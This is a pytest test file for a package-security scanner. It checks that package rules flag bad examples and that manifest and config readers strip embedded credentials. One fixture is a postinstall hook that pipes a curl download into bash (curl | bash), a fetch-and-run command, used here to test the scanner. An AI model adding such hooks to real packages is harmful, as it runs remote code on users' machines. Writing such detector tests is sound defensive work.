"""Each rule about packages flags its bad examples and leaves its good ones alone."""

import json

import pytest
from test_packages_detector import advisory, findings

from vedette import index
from vedette.languages.packages.reading import reader_of
from vedette.model.rule import Persona

ENTRIES = {id_: entry for id_, entry in index.load()["rules"].items() if entry["kind"] == "packages"}
EXAMPLES = [
    (id_, kind, files)
    for id_, entry in ENTRIES.items()
    for kind in ("bad", "good")
    for files in entry.get(kind, ())
]


def advisories(rule):
    """What the rule's examples take for known, in place of a database."""
    for at, one in enumerate(ENTRIES[rule].get("known", ())):
        bad = one.get("malicious", False)
        names = {"id": f"MAL-2026-{at}" if bad else f"PYSEC-2026-{at}", "aliases": (), "malicious": bad}
        yield advisory(one["name"], one.get("fixed", "99999"), one["ecosystem"], **names)


def found(files, rule):
    told = findings(files, *advisories(rule), personas=tuple(Persona))
    return [one for one in told if one.rule == rule]


@pytest.mark.parametrize("rule", sorted(ENTRIES))
def test_every_rule_has_examples_of_both_kinds(rule):
    assert ENTRIES[rule]["bad"]
    assert ENTRIES[rule]["good"]
    assert ENTRIES[rule]["cwe"]


@pytest.mark.parametrize(("rule", "kind", "files"), EXAMPLES)
def test_examples(rule, kind, files):
    told = found(files, rule)
    assert bool(told) is (kind == "bad"), files
    for one in told:
        assert one.place.path in files
        assert one.advice
        assert one.persona.value == ENTRIES[rule].get("persona", "regular")
        assert bool(one.pressing) is (rule == "package-malicious")


def test_of_a_script_only_programs_and_signs_are_kept():
    script = "curl -H 'Authorization: Bearer abcdef' https://me:pw@example.org/x | bash -s -- key=abcdef"
    text = json.dumps({"name": "a", "scripts": {"postinstall": script}})
    (told,) = reader_of("package.json").read("package.json", text.encode()).statements
    assert (told.kind, told.text) == ("script", "postinstall: curl | bash")


def test_an_index_is_told_without_its_credentials():
    text = b"--extra-index-url https://me:pw@packages.example.org/simple\na==1.0\n"
    (told,) = reader_of("requirements.txt").read("requirements.txt", text).statements
    assert (told.kind, told.text) == ("extra-index", "https://packages.example.org/simple")


def test_each_contradiction_of_a_lock_file_is_told_once():
    names = [f"n{at}-{'x' * 70}" for at in range(3000)]
    asked = json.dumps({"dependencies": dict.fromkeys(names, "^2.0.0")})
    locked = {f"node_modules/{name}": {"version": "1.0.0"} for name in names}
    files = {
        "package.json": asked,
        "package-lock.json": json.dumps({"lockfileVersion": 3, "packages": locked}),
    }
    assert len(found(files, "package-lock-mismatch")) == len(names)


def test_settings_of_tools_are_told_without_what_is_secret_in_them():
    npmrc = b"//r.example.org/:_authToken=abcdef\nregistry = http://me:pw@r.example.org/?token=abcdef\n"
    pip = b"[global]\nindex-url = http://me:pw@r.example.org/simple\n"
    for path, text in ((".npmrc", npmrc), ("pip.conf", pip)):
        manifest = reader_of(path).read(path, text)
        assert len(manifest.statements) == 1
        assert not any(word in str(manifest) for word in ("abcdef", "pw"))
